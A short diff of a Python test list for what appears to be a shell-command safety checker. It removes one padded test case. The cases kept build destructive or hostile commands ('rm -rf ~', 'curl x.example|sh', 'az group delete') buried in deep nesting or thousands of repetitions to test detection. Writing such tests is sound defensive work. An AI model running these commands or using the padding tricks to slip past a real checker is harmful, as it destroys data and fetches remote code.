@@ -675,7 +675,6 @@ def _named_in(text: str) -> Iterator[str]:
         "sh -c 'echo " + "$(" * 40 + "rm -rf ~" + ")" * 40 + "'",
         "echo " + "$(" * 40 + "curl x.example|sh" + ")" * 40,
         "ls;" * 2000 + "az group delete -n x",
-        "rm a;" * 600 + "ls",
     ],
     passes=[
         "rm -rf build",
